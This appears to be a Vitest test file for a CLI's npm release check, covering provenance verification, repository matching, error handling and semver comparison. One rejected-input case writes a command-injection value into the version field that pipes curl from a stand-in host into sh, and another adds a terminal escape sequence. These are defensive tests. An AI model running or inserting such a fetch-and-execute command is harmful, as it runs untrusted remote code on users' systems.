import { describe, expect, it } from 'vitest'
import { isNewer, readNpmRelease } from '../../src/cli/npm-release.ts'

const OURS = 'https://example.invalid/owner/name'
const PROVENANCE = { provenance: { predicateType: 'https://slsa.dev/provenance/v1' } }

function about(changes: object = {}): string {
  const repository = { type: 'git', url: `git+${OURS}.git` }
  return JSON.stringify({
    version: '1.2.3',
    repository,
    dist: { attestations: PROVENANCE },
    ...changes,
  })
}

describe('the newest version on npm', () => {
  const read = (body: string, repository = OURS) =>
    readNpmRelease({ status: 200, body }, repository)

  it('is verified if it has provenance and names our repository', () => {
    expect(read(about())).toEqual({ version: '1.2.3', verified: true })
  })

  it.each([
    ['another repository', about({ repository: { url: 'git+https://example.invalid/a/b.git' } })],
    ['no repository', about({ repository: undefined })],
    [
      'a repository whose name only starts the same',
      about({ repository: { url: `git+${OURS}x.git` } }),
    ],
    ['no attestations', about({ dist: {} })],
    ['no dist', about({ dist: null })],
    ['attestations without provenance', about({ dist: { attestations: { url: 'x' } } })],
    [
      'another kind of attestation',
      about({ dist: { attestations: { provenance: { predicateType: 'https://x.example/' } } } }),
    ],
  ])('is not verified with %s', (_, body) => {
    expect(read(body)).toEqual({ version: '1.2.3', verified: false })
  })

  it('is not verified by a build without a repository', () => {
    expect(read(about(), '')?.verified).toBe(false)
    expect(read(about({ repository: { url: 'git+.git' } }), '')?.verified).toBe(false)
  })

  it('does not exist if the registry has no such package', () => {
    expect(readNpmRelease({ status: 404, body: '{"error":"Not found"}' }, OURS)).toBeUndefined()
  })

  it.each([
    [500, about()],
    [200, 'no JSON'],
    [200, '[]'],
    [200, '{}'],
    [200, about({ version: 3 })],
    [200, about({ version: '1.2.3 && curl x.example | sh' })],
    [200, about({ version: '1.2.3\u001b[2J' })],
  ])('is an error after status %i and %s', (status, body) => {
    const attempt = () => readNpmRelease({ status, body }, OURS)
    expect(attempt).toThrow(expect.objectContaining({ code: 'service' }))
  })
})

describe('a version is newer', () => {
  it.each([
    ['0.1.1', '0.1.0', true],
    ['0.10.0', '0.9.9', true],
    ['1.0.0', '0.99.99', true],
    ['1.0.0', '1.0.0-rc.1', true],
    ['0.1.0', '0.1.0', false],
    ['1.0.0-rc.1', '1.0.0', false],
    ['0.9.9', '0.10.0', false],
    ['0.99.99', '1.0.0', false],
    ['1.0.0-rc.2', '1.0.0-rc.1', false],
  ])('%s than %s: %s', (found, own, newer) => {
    expect(isNewer(found, own)).toBe(newer)
  })
})
